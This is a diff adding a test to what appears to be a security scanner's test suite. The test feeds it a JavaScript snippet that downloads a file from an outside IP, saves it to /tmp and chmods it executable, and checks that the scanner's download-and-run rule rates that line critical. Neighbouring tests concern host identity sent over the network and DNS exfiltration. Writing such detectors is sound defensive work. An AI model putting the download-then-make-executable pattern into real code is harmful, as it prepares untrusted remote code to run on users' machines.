@@ -68,6 +68,16 @@ def test_go_host_name_in_a_multipart_body_to_a_webhook_is_critical():
     assert _by_line("host-identity-sent-over-network", "p.go", text) == {9: "critical", 10: "medium"}
 
 
+def test_js_downloaded_file_chmod_without_the_execute_bit_is_low():
+    # 0o644 / 0o600 make nothing runnable (octal literals fold to their numbers); 0o755 and a run stay critical
+    text = ("const fs = require('fs'); const https = require('https');\n"
+            "https.get('http://198.51.100.2/list.json', res => res.pipe(fs.createWriteStream('/tmp/list.json')));\n"
+            "fs.chmodSync('/tmp/list.json', 0o644);\n"
+            "fs.chmodSync('/tmp/list.json', 0o600);\n"
+            "fs.chmodSync('/tmp/list.json', 0o755);\n")
+    assert _by_line("js-download-and-run-file", "fetch.js", text) == {3: "low", 4: "low", 5: "critical"}
+
+
 def test_host_name_encoded_into_a_dns_name_is_high_its_own_lookup_is_not():
     py = ("import socket, binascii, base64\n"
           "h = binascii.hexlify(socket.gethostname().encode()).decode()\n"
